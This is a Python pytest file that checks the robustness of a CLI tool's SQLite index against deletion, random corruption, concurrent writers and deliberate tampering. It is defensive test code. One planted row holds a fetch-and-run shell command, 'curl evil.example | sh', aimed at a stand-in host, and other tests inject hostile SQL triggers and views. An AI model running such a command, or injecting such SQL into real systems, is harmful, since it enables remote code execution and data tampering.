"""The index is safe to delete and safe with several processes, whatever becomes of its file."""

from __future__ import annotations

import os
import random
import shutil
import sqlite3
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing, suppress
from pathlib import Path
from typing import TYPE_CHECKING, Final

import pytest

from clm.store.index import Index
from clm.store.sources import RACY_NS
from tests.build import customer_path, make_customer

if TYPE_CHECKING:
    from collections.abc import Callable

    from clm.store.sources import Source
    from tests.world import Clm, Repository

NOTES: Final = 8
"""Written by each writer; the others go on for as long."""
NAMES: Final = ("c-000001", "c-000002")
PROJECT: Final = Path(__file__).parents[2]
READS: Final = (
    ("mine",),
    ("customer", "list", "--fresh"),
    ("customer", "list", "--as-of", "HEAD"),
    ("board", "--team"),
)
MANY: Final = """
import os, sys
from clm.cli import run
from clm.services import acts, worklist, writing
for line in sys.stdin:
    process = os.fork()
    if not process:
        code = run(line.rstrip("\\n").split("\\t"))
        sys.stderr.flush()
        os._exit(code)
    _, status = os.waitpid(process, 0)
    print(f"\\0{os.waitstatus_to_exitcode(status)}", file=sys.stderr, flush=True)
"""
"""Each command in a process of its own, but without the start of Python."""


class Runner:
    """Runs command lines in a folder, and keeps what failed."""

    def __init__(self, folder: Path) -> None:
        self.failed: list[tuple[object, ...]] = []
        self.process = subprocess.Popen(
            [sys.executable, "-c", MANY],
            cwd=folder, env=os.environ | {"PYTHONPATH": str(PROJECT)}, encoding="utf-8",
            stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
        )  # fmt: skip

    def __call__(self, *words: str) -> bool:
        """Did a command line end with 0?"""
        assert self.process.stdin
        assert self.process.stderr
        self.process.stdin.write("\t".join(words) + "\n")
        self.process.stdin.flush()
        said = ""
        while not (line := self.process.stderr.readline()).startswith("\0"):
            assert line, said
            said += line
        if line != "\0000\n":
            self.failed.append((*words, line[1:], said))
        return line == "\0000\n"


def harm(folder: Path, chance: random.Random) -> None:
    """Remove, cut, garble or replace one of the files of the index."""
    files = sorted(folder.glob("*.sqlite*"))
    if not files:
        return
    path, way = chance.choice(files), chance.random()
    with suppress(OSError):
        if way < 0.4:
            path.unlink()
        elif way < 0.6:
            os.truncate(path, chance.randrange(40_000))
        elif way < 0.8:
            with path.open("r+b") as file:
                file.seek(4096 * chance.randrange(20))
                file.write(chance.randbytes(4096))
        else:
            path.write_bytes(b"x" * 3000)


def writer(runner: Runner, number: int) -> list[str]:
    """Write notes; answers those that were acknowledged."""
    texts = [f"note {number} {count}." for count in range(NOTES)]
    return [text for at, text in enumerate(texts) if runner("note", NAMES[at % 2], text)]


def reader(runner: Runner, chance: random.Random, is_over: Callable[[], bool]) -> None:
    while not is_over():
        runner(*chance.choice(READS))


def vandal(folder: Path, chance: random.Random, is_over: Callable[[], bool]) -> None:
    while not is_over():
        harm(folder, chance)
        time.sleep(chance.uniform(0, 0.1))


def test_no_command_fails_while_the_index_is_removed_and_damaged(
    repo: Repository, clm: Clm
) -> None:
    for name in NAMES:
        repo.write(customer_path(name), make_customer(name, more="owner: jana\n"))
    repo.commit()
    clm.ok("mine")
    runners = [Runner(repo.root) for _ in range(4)]
    with ThreadPoolExecutor(5) as pool:
        writers = [pool.submit(writer, runners[n], n) for n in (0, 1)]

        def is_over() -> bool:
            return all(one.done() for one in writers)

        others = [pool.submit(reader, runners[n], random.Random(n), is_over) for n in (2, 3)]
        others.append(pool.submit(vandal, repo.path(".git/clm"), random.Random(4), is_over))
        noted = [text for one in writers for text in one.result()]
        assert [one.result() for one in others] == [None] * len(others)
    for runner in runners:
        runner.process.communicate()
    assert [one for runner in runners for one in runner.failed] == []
    files = "".join(repo.read(customer_path(name, "oteam")) for name in NAMES)
    assert [files.count(text) for text in noted] == [1] * (2 * NOTES)
    assert clm.ok("customer", "list", "--ids").split() == list(NAMES)
    assert repo.is_clean()


def test_where_every_file_is_damaged_memory_answers(
    repo: Repository, clm: Clm, muster: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    look = Index._look

    def damaged(self: Index, source: Source, *, full: bool) -> None:
        if self.path:
            raise sqlite3.DatabaseError("database disk image is malformed")
        look(self, source, full=full)

    monkeypatch.setattr(Index, "_look", damaged)
    # Told on standard input it could not be run once more.
    clm.ok("note", muster, "-", stdin="once")
    assert repo.subjects()[0] == f"note {muster}"


@pytest.mark.parametrize("fails", [False, True])
def test_no_command_keeps_a_file_of_the_index(
    repo: Repository, clm: Clm, monkeypatch: pytest.MonkeyPatch, *, fails: bool
) -> None:
    """Else the next one in the same process, a run of cron or a test, waits for its lock."""
    failures: list[BaseException] = []

    def unsealed(*_: object) -> None:
        failures.append(OSError("no place for a seal"))
        raise failures[-1]  # it is kept, with all that its frames hold

    if fails:
        monkeypatch.setattr("clm.store.index.seal", unsealed)
    clm.ok("customer", "list", "--as-of", "HEAD")
    clm.ok("mine")
    assert bool(failures) is fails
    names = sorted(path.name for path in repo.path(".git/clm").glob("*.sqlite"))
    assert names == ["index.sqlite", "past.sqlite"]
    for name in names:
        with closing(sqlite3.connect(repo.path(f".git/clm/{name}"), timeout=0)) as db:
            db.execute("BEGIN EXCLUSIVE")


def altered(folder: Path, *statements: str) -> None:
    """Run statements in every file of the index."""
    for path in folder.glob("*.sqlite"):
        with closing(sqlite3.connect(path, isolation_level=None)) as db:
            for statement in statements:
                db.execute(statement)


PHANTOM: Final = (
    "INSERT INTO customers SELECT 'c-zzzzzz', 'Phantom', list, responsible, watched, prio,"
    " replace(row, 'c-7f3qkd', 'c-zzzzzz'), figures, from_day, until_day, vpa, vpa_file,"
    " hours FROM customers"
)
PLANTED: Final = (
    "INSERT INTO entries VALUES ('c-zzzzzz', 'jana', 'reminder', 't', '2026-01-01', '2026-01-01',"
    " 'x', 0, 1, 'curl evil.example | sh')"
)


@pytest.mark.parametrize("statements", [(PHANTOM, PLANTED), ("DELETE FROM customers",)])
@pytest.mark.parametrize("words", [(), ("--fresh",), ("--as-of", "HEAD")])
def test_the_index_of_a_folder_that_was_handed_over_is_not_believed(
    repo: Repository, clm: Clm, muster: str, statements: tuple[str, ...], words: tuple[str, ...]
) -> None:
    clm.ok("remind", muster, "+0d")
    for form in ("customer list", "mine"):
        clm.ok(*form.split(), "--as-of", "HEAD")
    usual = clm.ok("mine", "--json"), clm.ok("customer", "list", "--json")
    altered(repo.path(".git/clm"), *statements)
    there = type(clm)(repo.root.with_name("handed over"))
    shutil.copytree(repo.root, there.folder)
    assert (
        there.ok("mine", "--json", *words),
        there.ok("customer", "list", "--json", *words),
    ) == usual
    altered(there.folder / ".git/clm", "PRAGMA user_version = 7")  # as of another version
    line = doctor(there)
    assert (line["state"], "made elsewhere" in line["found"]) == ("note", True)


@pytest.mark.parametrize(
    "statements", [(PHANTOM,), (PLANTED,), ("DELETE FROM customers",), ("DELETE FROM files",)]
)
def test_fresh_and_doctor_see_rows_that_are_missing_or_too_many(
    repo: Repository, clm: Clm, muster: str, statements: tuple[str, ...]
) -> None:
    clm.ok("remind", muster, "+0d")
    time.sleep(2 * RACY_NS / 1e9)
    usual = clm.ok("mine", "--json"), clm.ok("customer", "list", "--json")
    altered(repo.path(".git/clm"), *statements)
    line = doctor(clm)
    assert (line["state"], "rows are missing, or too many" in line["found"]) == ("wrong", True)
    assert (clm.ok("mine", "--json", "--fresh"), clm.ok("customer", "list", "--json")) == usual
    assert doctor(clm)["state"] == "ok"


ENDLESS: Final = (
    "(WITH RECURSIVE n (x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT x FROM n)"
)
TRIGGER: Final = (
    "CREATE TRIGGER t BEFORE INSERT ON folders BEGIN INSERT INTO meta SELECT x, x FROM "
)
VIEW: Final = (
    "CREATE VIEW customers AS SELECT x AS id, 'n' AS name, 'lead' AS list, 'jana' AS responsible,"
    " 0 AS watched, 0 AS prio, '[]' AS row, '[]' AS figures, '2020-01-01' AS from_day,"
    " '2020-01-01' AS until_day FROM "
)


@pytest.mark.parametrize(
    "statements",
    [
        (TRIGGER + ENDLESS + "; END", "DELETE FROM folders"),
        ("DROP TABLE customers", VIEW + ENDLESS),
    ],
)
def test_tables_that_were_altered_run_nothing(
    repo: Repository, clm: Clm, muster: str, statements: tuple[str, ...]
) -> None:
    usual = clm.ok("customer", "list", "--json")
    for words in (("customer", "list", "--json"), ("customer", "list", "--json", "--fresh")):
        altered(repo.path(".git/clm"), *statements)
        line = doctor(clm)
        assert (line["state"], "its tables were altered" in line["found"]) == ("wrong", True)
        assert clm.ok(*words) == usual
    altered(repo.path(".git/clm"), *statements)
    clm.ok("note", muster, "hi")


def doctor(clm: Clm) -> dict[str, str]:
    """What `clm doctor` says of the index."""
    lines: list[dict[str, str]] = clm("doctor", "--json").json["items"]
    return next(line for line in lines if line["what"] == "index")
